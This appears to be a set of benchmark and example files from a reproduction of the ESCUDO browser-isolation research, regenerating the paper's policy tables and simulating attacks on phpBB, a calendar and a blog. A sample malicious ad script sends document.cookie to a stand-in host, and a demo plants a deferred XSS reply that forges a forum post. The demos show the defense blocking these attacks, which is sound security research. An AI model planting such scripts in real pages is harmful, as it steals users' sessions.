  the deterministic cold-start amortization evidence: one parent warm-up
  replaces N per-worker cold starts.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench import (
    PARALLEL_RESULTS_NAME,
    SCHEDULING_EFFICIENCY_FLOOR,
    format_parallel_report,
    measure_parallel_scenarios,
    write_parallel_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload so runs are comparable across commits.
SEED = 42
COUNT = 40
ATTACK_RATIO = 0.25
WORKER_COUNTS = (1, 2, 4)


def test_parallel_scenario_throughput(benchmark, report_writer):
    """Time the work-stealing executor sweep and certify serial parity."""
    payload = benchmark.pedantic(
        lambda: measure_parallel_scenarios(
            seed=SEED, count=COUNT, attack_ratio=ATTACK_RATIO, worker_counts=WORKER_COUNTS
        ),
        rounds=1,
        iterations=1,
    )
    assert payload["serial"]["ok"], "the serial baseline must satisfy the invariant"
    assert [row["workers"] for row in payload["workers"]] == list(WORKER_COUNTS)
    for row in payload["workers"]:
        assert row["ok"], f"sharded run at {row['workers']} workers found failures"
        assert row["parity_with_serial"], (
            f"merged report at {row['workers']} workers diverged from the serial run"
        )
        assert len(row["per_worker_cache_hit_rate"]) == min(row["workers"], COUNT)
        assert len(row["per_worker_chunks_stolen"]) == row["effective_workers"]
        assert sum(row["per_worker_scenarios"]) == COUNT
        assert row["scenarios_per_second"] > 0
        if row["effective_workers"] > 1:
            # Every scheduled chunk was pulled by someone.
            assert sum(row["per_worker_chunks_stolen"]) == -(-COUNT // row["steal_chunk"])
            assert row["warm_ship"], "multi-worker sweep rows ship warm state by default"

    cold = payload["cold_start"]
    assert cold["parity"], "warm-shipped and cold-worker runs must merge identically"
    assert cold["warm_ship_compile_misses"] < cold["cold_worker_compile_misses"], (
        "warm-shipped workers must pay fewer compile misses than per-worker "
        f"warm-up ({cold['warm_ship_compile_misses']} vs "
        f"{cold['cold_worker_compile_misses']})"
    )

    eff = payload["efficiency"]
    assert eff["ok"], "the efficiency run found failures"
    assert eff["scheduling_efficiency"] >= SCHEDULING_EFFICIENCY_FLOOR, (
        f"scheduling efficiency {eff['scheduling_efficiency']:.2f} at "
        f"{eff['workers']} workers fell below the {SCHEDULING_EFFICIENCY_FLOOR} floor"
    )

    path = write_parallel_report(payload, RESULTS_DIR / PARALLEL_RESULTS_NAME)
    report_writer(
        "parallel_scenarios", format_parallel_report(payload) + f"\n[json artifact: {path}]"
    )
