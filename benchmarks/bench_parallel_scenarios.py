"""Sharded scenario throughput: the same seed range at 1 / 2 / 4 workers.

Sweeps the parallel executor over worker counts, certifies that every
sharded run's merged report is byte-identical to the serial baseline, and
writes ``benchmarks/results/BENCH_parallel_scenarios.json`` (scenarios/s,
speedup vs serial, per-worker decision-cache hit rates) which the CI
``parallel-scenarios`` job uploads.

Speedup is hardware-bound (the payload records ``cpu_count``), so the test
asserts parity and report structure -- the scaling claim is checked by CI on
a known multi-core runner via the 200-scenario ``--workers 4`` CLI run.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench import (
    PARALLEL_RESULTS_NAME,
    format_parallel_report,
    measure_parallel_scenarios,
    write_parallel_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload so runs are comparable across commits.
SEED = 42
COUNT = 40
ATTACK_RATIO = 0.25
WORKER_COUNTS = (1, 2, 4)


def test_parallel_scenario_throughput(benchmark, report_writer):
    """Time the sharded executor sweep and certify serial parity."""
    payload = benchmark.pedantic(
        lambda: measure_parallel_scenarios(
            seed=SEED, count=COUNT, attack_ratio=ATTACK_RATIO, worker_counts=WORKER_COUNTS
        ),
        rounds=1,
        iterations=1,
    )
    assert payload["serial"]["ok"], "the serial baseline must satisfy the invariant"
    assert [row["workers"] for row in payload["workers"]] == list(WORKER_COUNTS)
    for row in payload["workers"]:
        assert row["ok"], f"sharded run at {row['workers']} workers found failures"
        assert row["parity_with_serial"], (
            f"merged report at {row['workers']} workers diverged from the serial run"
        )
        assert len(row["per_worker_cache_hit_rate"]) == min(row["workers"], COUNT)
        assert row["scenarios_per_second"] > 0

    path = write_parallel_report(payload, RESULTS_DIR / PARALLEL_RESULTS_NAME)
    report_writer(
        "parallel_scenarios", format_parallel_report(payload) + f"\n[json artifact: {path}]"
    )
