"""Scenario-engine throughput: N seeded multi-user sessions x policy matrix.

Runs the differential scenario workload end to end (generation, per-model
execution, oracle classification), asserts the paper's differential claim
holds at fuzzing scale, and writes the throughput artifact
``benchmarks/results/BENCH_scenarios.json`` (scenarios/s, mediations/s,
decision-cache hit rate) that the CI ``scenarios`` job uploads.
"""

from __future__ import annotations

from pathlib import Path

from repro.bench import SCENARIO_RESULTS_NAME, measure_scenarios, write_scenario_report

RESULTS_DIR = Path(__file__).parent / "results"

#: Fixed workload so runs are comparable across commits.
SEED = 42
COUNT = 25
ATTACK_RATIO = 0.25


def test_scenario_engine_throughput(benchmark, report_writer):
    """Time the whole engine and certify the differential invariant."""
    suite = benchmark.pedantic(
        lambda: measure_scenarios(seed=SEED, count=COUNT, attack_ratio=ATTACK_RATIO),
        rounds=1,
        iterations=1,
    )
    assert suite.ok, suite.summary()
    assert suite.benign_count + suite.attack_count == COUNT
    assert suite.attack_count > 0, "the fixed seed must exercise attack injection"
    assert suite.mediations > 0, "scenario execution must be mediated"

    path = write_scenario_report(suite, RESULTS_DIR / SCENARIO_RESULTS_NAME)
    report_writer("scenario_throughput", suite.summary() + f"\n[json artifact: {path}]")
