"""Storage-tier scale workload: bulk seeding + page loads + scenario parity.

Seeds a phpBB board with ``REPRO_STORAGE_USERS`` users and
``REPRO_STORAGE_POSTS`` posts (1M / 100k by default -- the ROADMAP's
realistic-scale target) on both the dict and SQLite backends, measures
bulk-seed throughput and p50/p99 page-load latency over the seeded board,
runs the differential scenario engine on each backend, and writes
``benchmarks/results/BENCH_storage.json``.  The CI ``storage`` job runs a
scaled-down smoke (10k users) through the same code path and uploads the
artifact.
"""

from __future__ import annotations

import os
from pathlib import Path

from repro.bench import (
    STORAGE_RESULTS_NAME,
    format_storage_report,
    measure_storage,
    write_storage_report,
)

RESULTS_DIR = Path(__file__).parent / "results"

USERS = int(os.environ.get("REPRO_STORAGE_USERS", "1000000"))
POSTS = int(os.environ.get("REPRO_STORAGE_POSTS", "100000"))
TOPICS = int(os.environ.get("REPRO_STORAGE_TOPICS", "1000"))
PAGE_LOADS = int(os.environ.get("REPRO_STORAGE_PAGE_LOADS", "200"))
SCENARIOS = int(os.environ.get("REPRO_STORAGE_SCENARIOS", "12"))


def test_storage_tier_scale(benchmark, report_writer):
    """Seed both backends at scale and certify dict-vs-SQLite parity."""
    report = benchmark.pedantic(
        lambda: measure_storage(
            users=USERS,
            posts=POSTS,
            topics=TOPICS,
            page_loads=PAGE_LOADS,
            scenario_count=SCENARIOS,
        ),
        rounds=1,
        iterations=1,
    )
    for kind in ("dict", "sqlite"):
        entry = report["backends"][kind]
        assert entry["bulk_seed"]["rows"] == USERS + TOPICS + POSTS
        assert entry["page_load_ms"]["p99_ms"] >= entry["page_load_ms"]["p50_ms"]
    assert report["backends"]["sqlite"]["db_bytes"] > 0
    assert report["scenarios"]["dict"]["ok"] and report["scenarios"]["sqlite"]["ok"]
    assert report["scenarios"]["digest_parity"], (
        "SQLite and dict backends diverged on scenario digests"
    )

    path = write_storage_report(report, RESULTS_DIR / STORAGE_RESULTS_NAME)
    report_writer("storage_tier", format_storage_report(report) + f"\n[json artifact: {path}]")
