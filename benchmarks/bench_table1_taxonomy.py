"""Table 1: principals and objects inside the web browser.

Regenerates the paper's taxonomy from the type system (principal kinds,
object kinds, the concrete tags/attributes/APIs each covers) and checks that
the classification helpers agree with it.
"""

from __future__ import annotations

from repro.bench import format_table
from repro.core import PrincipalKind, classify_tag
from repro.core.objects import taxonomy as object_taxonomy
from repro.core.principal import taxonomy as principal_taxonomy


def test_table1_taxonomy(benchmark, report_writer):
    """Regenerate Table 1 and sanity-check the classifier functions."""
    principals, objects = benchmark(lambda: (principal_taxonomy(), object_taxonomy()))

    rows = []
    for kind, info in principals.items():
        examples = ", ".join(str(e) for e in info["examples"][:6])
        rows.append(("principal", kind, examples, "yes" if info["controllable"] else "no"))
    for kind, info in objects.items():
        examples = ", ".join(str(e) for e in info["examples"][:6])
        rows.append(("object", kind, examples, "yes" if info["configurable"] else "no (ring 0)"))
    table = format_table(
        ("role", "class", "examples", "application-controllable"),
        rows,
        title="Table 1: principals and objects inside the web browser",
    )
    report_writer("table1_taxonomy", table)

    # The HTTP-request-issuing tags named by the paper classify correctly.
    for tag in ("a", "img", "form", "embed", "iframe"):
        assert classify_tag(tag) is PrincipalKind.HTTP_REQUEST_ISSUER
    assert classify_tag("script") is PrincipalKind.SCRIPT
    assert classify_tag("p") is None
    # Dual-role note: DOM elements appear on the object side too.
    assert "dom-element" in objects
