"""Table 2: phpBB security requirements, measured against the live monitor.

The paper states which principal classes may modify messages, access cookies
and access XMLHttpRequest.  The benchmark loads the configured phpBB topic
and private-message pages in an ESCUDO browser and asks the reference
monitor the nine questions of the table directly.
"""

from __future__ import annotations

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_table
from repro.core import Operation


def _measure_requirements():
    env = build_environment("phpbb", "escudo")
    login_victim(env)
    topic = visit(env, "/viewtopic?t=1")
    page = topic.page

    chrome = page.document.get_element_by_id("forum-header")
    post_body = page.document.get_element_by_id("post-body-1")
    reply_body = page.document.get_element_by_id("post-body-2")
    cookie = env.browser.cookie_jar.get(page.origin, env.app.session_cookie_name)
    xhr = page.api_context("XMLHttpRequest")

    env.app.send_private_message("alice", env.victim, "hi", "see you at the meetup")
    inbox = visit(env, "/privmsg")
    pm_body = inbox.page.document.get_elements_by_class_name("pm-body")[0]

    principals = {
        "Application contents": topic.page.principal_context_for(chrome),
        "Topics and replies": topic.page.principal_context_for(reply_body),
        "Private messages": inbox.page.principal_context_for(pm_body),
    }

    def verdict(principal, target, operation):
        return "Yes" if page.monitor.authorize(principal, target, operation).allowed else "No"

    rows = []
    for name, principal in principals.items():
        rows.append(
            (
                name,
                verdict(principal, post_body.security_context, Operation.WRITE),
                verdict(principal, cookie, Operation.READ),
                verdict(principal, xhr, Operation.USE),
            )
        )
    return rows


def test_table2_requirements(benchmark, report_writer):
    """Regenerate Table 2 and assert it matches the paper."""
    rows = benchmark.pedantic(_measure_requirements, rounds=1, iterations=1)
    table = format_table(
        ("Principal", "Modify messages (DOM)", "Access cookies", "Access XMLHttpRequest"),
        rows,
        title="Table 2 (measured): phpBB security requirements under ESCUDO",
    )
    report_writer("table2_phpbb_requirements", table)

    expected = {
        "Application contents": ("Yes", "Yes", "Yes"),
        "Topics and replies": ("No", "No", "No"),
        "Private messages": ("No", "No", "No"),
    }
    for name, *verdicts in rows:
        assert tuple(verdicts) == expected[name], f"{name}: {verdicts}"
