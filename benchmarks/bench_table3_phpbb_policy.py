"""Table 3: the ESCUDO security configuration for phpBB.

Two parts: (a) regenerate the configuration table itself from the
application's ``escudo_configuration()`` and page templates, and (b) verify
the isolation property the table is designed for -- "content provided by one
user is completely isolated from content provided by another" -- by
evaluating the policy over a principal × object matrix drawn from a loaded
topic page.
"""

from __future__ import annotations

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_policy_table, format_table
from repro.core import Operation, evaluate_matrix
from repro.webapps.phpbb import (
    APPLICATION_RING,
    COOKIE_RING,
    DATA_COOKIE,
    MESSAGE_ACL_LIMIT,
    MESSAGE_RING,
    SID_COOKIE,
    XHR_RING,
    PhpBB,
)


def test_table3_configuration(benchmark, report_writer):
    """The emitted cookie/API/message configuration matches Table 3."""
    app = benchmark(lambda: PhpBB(input_validation=False))
    config = app.escudo_configuration()

    table = format_policy_table(
        "Table 3: ESCUDO security configuration for phpBB",
        ("Cookies", "XMLHttpRequest", "Application contents", "Topics & replies", "Private messages"),
        (COOKIE_RING, XHR_RING, APPLICATION_RING, MESSAGE_RING, MESSAGE_RING),
        {
            "Read": (1, 1, 1, MESSAGE_ACL_LIMIT, MESSAGE_ACL_LIMIT),
            "Write": (1, 1, 1, MESSAGE_ACL_LIMIT, MESSAGE_ACL_LIMIT),
        },
    )
    report_writer("table3_phpbb_policy", table)

    for name in (SID_COOKIE, DATA_COOKIE):
        policy = config.cookie_policy(name)
        assert policy.ring.level == COOKIE_RING
        assert policy.acl.read.level == 1 and policy.acl.write.level == 1
    assert config.api_policy("XMLHttpRequest").ring.level == XHR_RING


def test_table3_isolation_matrix(benchmark, report_writer):
    """Messages are isolated from each other and from the chrome."""
    env = build_environment("phpbb", "escudo")
    login_victim(env)
    loaded = visit(env, "/viewtopic?t=1")
    page = loaded.page

    chrome = page.document.get_element_by_id("forum-header")
    first_post = page.document.get_element_by_id("post-body-1")
    second_post = page.document.get_element_by_id("post-body-2")

    principals = [
        ("application chrome (ring 1)", page.principal_context_for(chrome)),
        ("message #1 (ring 3)", page.principal_context_for(first_post)),
        ("message #2 (ring 3)", page.principal_context_for(second_post)),
    ]
    objects = [
        ("chrome", chrome.security_context),
        ("message #1", first_post.security_context),
        ("message #2", second_post.security_context),
    ]

    decisions = benchmark(
        lambda: evaluate_matrix(page.monitor.policy, principals, objects, (Operation.WRITE,))
    )
    verdicts = {(d.principal_label, d.object_label): d.allowed for d in decisions}

    rows = [
        (p_name, *("allow" if verdicts[(p_name, o_name)] else "deny" for o_name, _ in objects))
        for p_name, _ in principals
    ]
    table = format_table(
        ("principal \\ object (write)", *(name for name, _ in objects)),
        rows,
        title="Table 3 isolation: who may write what on the phpBB topic page",
    )
    report_writer("table3_phpbb_isolation", table)

    # Chrome (ring 1) may manage everything; a message may not touch the
    # chrome nor any message (including itself -- its ACL admits rings 0-2).
    assert verdicts[("application chrome (ring 1)", "message #1")]
    assert verdicts[("application chrome (ring 1)", "chrome")]
    assert not verdicts[("message #1 (ring 3)", "chrome")]
    assert not verdicts[("message #1 (ring 3)", "message #2")]
    assert not verdicts[("message #2 (ring 3)", "message #1")]
