"""Table 4: PHP-Calendar security requirements, measured against the monitor.

Application content may modify events, access cookies and use
XMLHttpRequest; calendar events may do none of those.
"""

from __future__ import annotations

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_table
from repro.core import Operation


def _measure_requirements():
    env = build_environment("phpcalendar", "escudo")
    login_victim(env)
    loaded = visit(env, "/")
    page = loaded.page

    chrome = page.document.get_element_by_id("calendar-header")
    first_event = page.document.get_element_by_id("event-body-1")
    second_event = page.document.get_element_by_id("event-body-2")
    cookie = env.browser.cookie_jar.get(page.origin, env.app.session_cookie_name)
    xhr = page.api_context("XMLHttpRequest")

    principals = {
        "Application content": page.principal_context_for(chrome),
        "Calendar events": page.principal_context_for(second_event),
    }

    def verdict(principal, target, operation):
        return "Yes" if page.monitor.authorize(principal, target, operation).allowed else "No"

    rows = []
    for name, principal in principals.items():
        rows.append(
            (
                name,
                verdict(principal, first_event.security_context, Operation.WRITE),
                verdict(principal, cookie, Operation.READ),
                verdict(principal, xhr, Operation.USE),
            )
        )
    return rows


def test_table4_requirements(benchmark, report_writer):
    """Regenerate Table 4 and assert it matches the paper."""
    rows = benchmark.pedantic(_measure_requirements, rounds=1, iterations=1)
    table = format_table(
        ("Principal", "Modify events (DOM)", "Access cookies", "Access XMLHttpRequest"),
        rows,
        title="Table 4 (measured): PHP-Calendar security requirements under ESCUDO",
    )
    report_writer("table4_calendar_requirements", table)

    expected = {
        "Application content": ("Yes", "Yes", "Yes"),
        "Calendar events": ("No", "No", "No"),
    }
    for name, *verdicts in rows:
        assert tuple(verdicts) == expected[name], f"{name}: {verdicts}"
