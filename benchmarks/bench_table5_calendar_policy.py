"""Table 5: the ESCUDO security configuration for PHP-Calendar.

Regenerates the configuration table and verifies event-to-event isolation on
a loaded month view (the property the configuration exists to provide).
"""

from __future__ import annotations

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_policy_table, format_table
from repro.core import Operation, evaluate_matrix
from repro.webapps.phpcalendar import (
    APPLICATION_RING,
    COOKIE_RING,
    EVENT_ACL_LIMIT,
    EVENT_RING,
    SESSION_COOKIE,
    XHR_RING,
    PhpCalendar,
)


def test_table5_configuration(benchmark, report_writer):
    """The emitted cookie/API/event configuration matches Table 5."""
    app = benchmark(lambda: PhpCalendar(input_validation=False))
    config = app.escudo_configuration()

    table = format_policy_table(
        "Table 5: ESCUDO security configuration for PHP-Calendar",
        ("Cookies", "XMLHttpRequest", "Application content", "Calendar events"),
        (COOKIE_RING, XHR_RING, APPLICATION_RING, EVENT_RING),
        {
            "Read": (1, 1, 1, EVENT_ACL_LIMIT),
            "Write": (1, 1, 1, EVENT_ACL_LIMIT),
        },
    )
    report_writer("table5_calendar_policy", table)

    policy = config.cookie_policy(SESSION_COOKIE)
    assert policy.ring.level == COOKIE_RING
    assert config.api_policy("XMLHttpRequest").ring.level == XHR_RING
    assert config.api_policy("XMLHttpRequest").acl.use.level == XHR_RING


def test_table5_event_isolation(benchmark, report_writer):
    """Calendar events are isolated from one another and from the chrome."""
    env = build_environment("phpcalendar", "escudo")
    login_victim(env)
    loaded = visit(env, "/")
    page = loaded.page

    chrome = page.document.get_element_by_id("calendar-header")
    event_one = page.document.get_element_by_id("event-body-1")
    event_two = page.document.get_element_by_id("event-body-2")

    principals = [
        ("application content (ring 1)", page.principal_context_for(chrome)),
        ("event #1 (ring 3)", page.principal_context_for(event_one)),
        ("event #2 (ring 3)", page.principal_context_for(event_two)),
    ]
    objects = [
        ("chrome", chrome.security_context),
        ("event #1", event_one.security_context),
        ("event #2", event_two.security_context),
    ]
    decisions = benchmark(
        lambda: evaluate_matrix(page.monitor.policy, principals, objects, (Operation.WRITE,))
    )
    verdicts = {(d.principal_label, d.object_label): d.allowed for d in decisions}

    rows = [
        (p_name, *("allow" if verdicts[(p_name, o_name)] else "deny" for o_name, _ in objects))
        for p_name, _ in principals
    ]
    report_writer(
        "table5_calendar_isolation",
        format_table(
            ("principal \\ object (write)", *(name for name, _ in objects)),
            rows,
            title="Table 5 isolation: who may write what on the calendar month view",
        ),
    )

    assert verdicts[("application content (ring 1)", "event #1")]
    assert not verdicts[("event #1 (ring 3)", "event #2")]
    assert not verdicts[("event #2 (ring 3)", "event #1")]
    assert not verdicts[("event #1 (ring 3)", "chrome")]
