"""Shared helpers for the benchmark harness.

Every benchmark regenerates one of the paper's tables or figures.  Besides
the timing numbers collected by ``pytest-benchmark``, each benchmark writes
the regenerated table to ``benchmarks/results/<name>.txt`` so the data
survives pytest's output capture and can be pasted into ``EXPERIMENTS.md``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"


@pytest.fixture(scope="session")
def report_writer():
    """Write a named report file under ``benchmarks/results/`` (and echo it)."""
    RESULTS_DIR.mkdir(exist_ok=True)

    def write(name: str, text: str) -> Path:
        path = RESULTS_DIR / f"{name}.txt"
        path.write_text(text + "\n", encoding="utf-8")
        print(f"\n{text}\n[report written to {path}]")
        return path

    return write
