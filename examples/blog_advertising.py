#!/usr/bin/env python3
"""The advertising scenario from the paper's introduction.

A publisher sells a slot on their blog to an ad network.  The ad network
supplies a script the publisher never reviews.  With the same-origin policy
the publisher simply has to trust the network; with ESCUDO the publisher
assigns the slot to ring 2, so even a malicious advertisement is confined --
it can render inside its slot but cannot rewrite the article, steal the
session cookie, or call XMLHttpRequest.

Run with::

    python examples/blog_advertising.py
"""

from __future__ import annotations

from repro.browser import Browser
from repro.http import Network
from repro.webapps import Blog

#: A well-behaved advertisement: fills its own slot.
BENIGN_AD = (
    "var slot = document.getElementById('ad-slot');"
    "if (slot != null) { slot.innerHTML = 'Spring sale: 20% off everything!'; }"
)

#: A malicious advertisement: tries to rewrite the article and grab cookies.
MALICIOUS_AD = (
    "var slot = document.getElementById('ad-slot');"
    "if (slot != null) { slot.innerHTML = 'Totally legit offers'; }"
    "var article = document.getElementById('post-body');"
    "if (article != null) { article.innerHTML = 'BUY MY CRYPTO COIN'; }"
    "var banner = document.getElementById('blog-banner');"
    "if (banner != null) { banner.textContent = 'sponsored content only'; }"
    "var xhr = new XMLHttpRequest();"
    "xhr.open('GET', 'http://ads.example.net/collect?c=' + document.cookie);"
    "xhr.send();"
)


def run(ad_script: str, label: str) -> None:
    print(f"=== advertisement: {label} " + "=" * 30)
    for model in ("escudo", "sop"):
        blog = Blog(ad_script=ad_script, input_validation=False)
        network = Network()
        network.register(blog.origin, blog)
        browser = Browser(network, model=model)
        loaded = browser.load(f"{blog.origin}/post?id=1")
        page = loaded.page

        slot = page.document.get_element_by_id("ad-slot")
        article = page.document.get_element_by_id("post-body")
        banner = page.document.get_element_by_id("blog-banner")
        ad_requests = network.requests_matching(path_prefix="/collect")

        print(f"[{model:>6}] ad slot shows       : {slot.text_content!r}")
        print(f"         article intact      : {'rings' in article.text_content}")
        print(f"         banner intact       : {'blog' in banner.text_content}")
        print(f"         cookie exfiltration : {len(ad_requests)} request(s)")
        print(f"         denied accesses     : {page.monitor.stats.denied}")
    print()


def main() -> None:
    print("Publisher / ad-network trust scenario (Section 1 of the paper)\n")
    run(BENIGN_AD, "benign (fills its slot)")
    run(MALICIOUS_AD, "malicious (tries to take over the page)")
    print("Under ESCUDO the benign ad still works, while the malicious ad is\n"
          "confined to its ring-2 slot; under the same-origin policy the\n"
          "publisher's article and cookies are at the advertiser's mercy.")


if __name__ == "__main__":
    main()
