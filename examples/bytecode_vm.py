#!/usr/bin/env python3
"""The bytecode tier, step by step: compile, cache, execute, verify parity.

Script execution is tiered: source text hits the AST cache (lex + parse
memoised on digest), the code cache (constant folding + bytecode lowering,
same key), and finally the dispatch-loop VM with monomorphic inline caches
on member-access sites. The AST walker stays available as the reference
engine -- ``--ast-walker`` on the scenario CLI, ``script_engine="walker"``
in the API -- and this demo shows the two agreeing observation for
observation:

1. compile a script-heavy source and disassemble a slice of the bytecode;
2. run it on both engines -- same value, and the VM reports its
   inline-cache hit rate;
3. show that an IC hit still *mediates*: flipping a host object's policy
   denies the very next access through a warm cache;
4. replay a seeded scenario suite under both engines and compare the
   canonical reports byte for byte (the ``--ast-walker`` differential).

Run with::

    PYTHONPATH=src python examples/bytecode_vm.py
"""

from __future__ import annotations

from repro.scenarios.engine import run_suite
from repro.scenarios.model import canonical_spec_json
from repro.scenarios.runner import ScenarioRunner
from repro.scripting.cache import ScriptAstCache, ScriptCodeCache
from repro.scripting.errors import RuntimeScriptError
from repro.scripting.interpreter import HostObject, Interpreter
from repro.scripting.vm import VirtualMachine

SOURCE = """
var rows = [];
for (var i = 0; i < 20; i = i + 1) {
    rows.push({id: i, weight: i % 5});
}
var score = 0;
for (var i = 0; i < rows.length; i = i + 1) {
    score = score + rows[i].weight;
}
score;
"""


class GuardedSensor(HostObject):
    """A mediating host object whose policy can be revoked at runtime."""

    host_name = "GuardedSensor"

    def __init__(self) -> None:
        self.allowed = True

    def js_get(self, name: str):
        if not self.allowed:
            raise RuntimeScriptError(f"access to {name!r} denied by policy")
        return 42.0


def main() -> None:
    # 1. source -> AST cache -> code cache (both keyed on the SHA-256 digest).
    ast_cache = ScriptAstCache()
    code_cache = ScriptCodeCache()
    code = code_cache.code_for(SOURCE, parse=ast_cache.parse)
    listing = code.disassemble().splitlines()
    print("bytecode (first 12 instructions):")
    for line in listing[:12]:
        print(f"  {line}")
    print(f"  ... {len(listing)} instructions, {len(code.constants)} pooled constants")

    # 2. both engines, one answer; the VM also reports cache effectiveness.
    walker = Interpreter().run(ast_cache.parse(SOURCE))
    vm = VirtualMachine()
    compiled = vm.run(code)
    assert walker.value == compiled.value, "engines must agree"
    print(f"\nwalker value: {walker.value}  VM value: {compiled.value}")
    print(f"VM inline-cache hit rate: {vm.ic_hit_rate * 100.0:.1f}% "
          f"({vm.ic_hits} hits / {vm.ic_misses} misses)")

    # 3. a warm inline cache never skips mediation: revoke and re-run.
    sensor = GuardedSensor()
    probe = code_cache.code_for("sensor.reading;")
    assert VirtualMachine({"sensor": sensor}).run(probe).value == 42.0
    sensor.allowed = False
    denied = VirtualMachine({"sensor": sensor}).run(probe)
    print(f"\nafter revocation (same compiled code, warm IC): {denied.error}")
    assert denied.failed, "the warm cache must still mediate"

    # 4. the --ast-walker differential, as a library call: byte-identical
    #    canonical reports from the same seeded suite under both engines.
    reports = {}
    for engine in ("vm", "walker"):
        suite = run_suite(seed=42, count=10, runner=ScenarioRunner(script_engine=engine))
        reports[engine] = canonical_spec_json(suite.parity_dict())
        print(f"\n[{engine}] {suite.summary().splitlines()[1].strip()}")
    assert reports["vm"] == reports["walker"], "reports must be byte-identical"
    print("\ncanonical suite reports are byte-identical under both engines")


if __name__ == "__main__":
    main()
