#!/usr/bin/env python3
"""PHP-Calendar policy walkthrough (Tables 4 and 5).

Loads the calendar miniature, prints its ESCUDO configuration as the paper's
Table 5 presents it, and then evaluates the Table 4 requirements matrix
(which principal classes may modify events / access cookies / use
XMLHttpRequest) directly against the reference monitor.

Run with::

    python examples/calendar_policy.py
"""

from __future__ import annotations

from repro.attacks import build_environment, login_victim, visit
from repro.bench import format_policy_table, format_table
from repro.core import Operation
from repro.webapps.phpcalendar import EVENT_ACL_LIMIT, EVENT_RING


def print_table5() -> None:
    print(format_policy_table(
        "Table 5: ESCUDO configuration for PHP-Calendar",
        ("Cookies", "XMLHttpRequest", "Application content", "Calendar events"),
        (1, 1, 1, EVENT_RING),
        {
            "Read": (1, 1, 1, EVENT_ACL_LIMIT),
            "Write": (1, 1, 1, EVENT_ACL_LIMIT),
        },
    ))
    print()


def print_table4_measured() -> None:
    """Evaluate the Table 4 requirements against a live, loaded page."""
    env = build_environment("phpcalendar", "escudo")
    login_victim(env)
    loaded = visit(env, "/")
    page = loaded.page

    chrome = page.document.get_element_by_id("calendar-header")
    event_body = page.document.get_element_by_id("event-body-1")
    cookie = env.browser.cookie_jar.get(page.origin, env.app.session_cookie_name)
    xhr_context = page.api_context("XMLHttpRequest")

    principals = {
        "Application content": page.principal_context_for(chrome),
        "Calendar events": page.principal_context_for(event_body),
    }
    rows = []
    for name, principal in principals.items():
        can_modify = page.monitor.authorize(principal, event_body.security_context, Operation.WRITE).allowed
        can_cookie = page.monitor.authorize(principal, cookie, Operation.READ).allowed
        can_xhr = page.monitor.authorize(principal, xhr_context, Operation.USE).allowed
        rows.append((name, "Yes" if can_modify else "No",
                     "Yes" if can_cookie else "No", "Yes" if can_xhr else "No"))
    print(format_table(
        ("Principal", "Modify events (DOM)", "Access cookies", "Access XMLHttpRequest"),
        rows,
        title="Table 4 (measured): what each principal class may do under ESCUDO",
    ))
    print("\nPaper's Table 4: application content = Yes/Yes/Yes, calendar events = No/No/No.")


def main() -> None:
    print_table5()
    print_table4_measured()


if __name__ == "__main__":
    main()
