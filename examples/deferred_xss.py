#!/usr/bin/env python3
"""A deferred XSS attack racing a policy swap through the event loop.

The runtime has a real (virtual-clock) event loop, so an injected script
can defer its payload with ``setTimeout`` past the page load and fire an
*asynchronous* ``XMLHttpRequest`` whose completion sits in the task queue.
This demo walks the TOCTOU choreography step by step under both protection
models:

1. mallory's forum reply hides a deferred script that forges a POST
   creating a ``PWNED`` topic through the victim's session;
2. the victim views the poisoned topic -- the timer is queued, nothing has
   happened yet;
3. the server relabels ``XMLHttpRequest`` to permit ring 3 (the
   *check*-time policy), the clock advances, and ``send()`` queues the
   completion;
4. the grant is revoked while the completion is still in flight;
5. the loop drains: mediation happens **at completion time**, so ESCUDO
   denies the forged request (attributably, in the audit log) while the
   legacy browser delivers it.

Run with::

    PYTHONPATH=src python examples/deferred_xss.py
"""

from __future__ import annotations

from repro.attacks.harness import build_environment, login_victim, visit
from repro.attacks.toctou import DEFER_MS, payload_deferred_post
from repro.core.config import ResourcePolicy


def run_under(model: str) -> bool:
    print(f"--- protection model: {model} ---")
    env = build_environment("phpbb", model)
    login_victim(env)
    env.app.add_reply(
        1,
        "mallory",
        payload_deferred_post("/posting?mode=newtopic&subject=PWNED&message=forged+after+load"),
    )

    loaded = visit(env, "/viewtopic?t=1")
    page = loaded.page
    print(f"page loaded; queued tasks: {page.event_loop.pending_count} "
          "(the deferred payload survived the load)")

    # The server's relabel: XHR may be used by ring 3 -- the check-time policy.
    page.set_api_policy("XMLHttpRequest", ResourcePolicy.uniform(3))
    page.event_loop.advance(DEFER_MS)
    print(f"timer fired at t={page.event_loop.now:.0f}ms: send() queued the completion")

    # The revocation lands while the completion is in flight.
    page.set_api_policy("XMLHttpRequest", ResourcePolicy.ring_zero())
    page.event_loop.drain()

    forged = any(topic.title == "PWNED" for topic in env.app.state.topics)
    print(f"forged topic created: {forged}")
    denials = page.monitor.audit.denials()
    if denials:
        last = denials[-1]
        print(f"last denial: {last.operation.value} {last.principal_label} -> "
              f"{last.object_label} (rule: {last.denying_rule.value})")
    if model == "escudo":
        # The demo doubles as a CI gate: a regression to send-time mediation
        # would let the forged request through here.
        assert not forged, "ESCUDO must block the deferred request at completion time"
        assert denials and denials[-1].denying_rule is not None, (
            "the block must be attributable in the audit log"
        )
    else:
        assert forged, "the legacy model must deliver the deferred request"
    print()
    return forged


def main() -> None:
    print(__doc__.split("Run with")[0])
    outcomes = {model: run_under(model) for model in ("escudo", "sop")}
    assert outcomes == {"escudo": False, "sop": True}
    print("Expected shape: the forged topic exists only under the legacy model; "
          "under ESCUDO the completion-time check blocks it and the audit log "
          "names the rule.")


if __name__ == "__main__":
    main()
