#!/usr/bin/env python3
"""Defense effectiveness on the phpBB case study (Section 6.4).

Re-runs the paper's experiment: the forum's own input validation and CSRF
tokens are removed, the attack corpus (4 XSS + 5 CSRF attacks) is launched,
and the outcome is compared between an ESCUDO browser and a legacy
same-origin-policy browser.

Run with::

    python examples/forum_defense.py
"""

from __future__ import annotations

from repro.attacks import (
    defense_effectiveness_matrix,
    phpbb_csrf_attacks,
    phpbb_xss_attacks,
    summarize,
)
